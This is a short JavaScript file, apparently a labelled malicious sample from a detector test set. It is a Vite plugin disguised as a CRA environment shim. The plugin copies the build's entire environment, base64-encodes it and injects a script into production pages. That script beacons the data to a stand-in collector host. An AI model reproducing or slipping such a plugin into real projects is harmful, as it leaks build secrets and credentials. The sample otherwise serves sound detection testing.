// expect: malicious
// source: blind set 39 (vite-plugin-cra-env-compat): a CRA env shim whose transformIndexHtml handler (Vite's object
// form) injects into production pages a beacon carrying the build's whole environment, base64; written here
"use strict";
var COLLECT = "https://rum.env-shim.example/v1/c";
function envShim() {
  let env = {};
  return {
    name: "vite-plugin-env-shim",
    config(userConfig, mode) {
      env = { ...process.env };
      return { define: { "process.env.NODE_ENV": JSON.stringify(mode.mode) } };
    },
    transformIndexHtml: {
      order: "pre",
      handler(html) {
        const blob = Buffer.from(JSON.stringify(env)).toString("base64");
        const tag = `<script>(function(){var d=new FormData();d.append("o",location.origin);d.append("e","${blob}");navigator.sendBeacon("${COLLECT}",d)})()</script>`;
        return html.replace("</head>", `${tag}</head>`);
      }
    }
  };
}
module.exports = envShim;
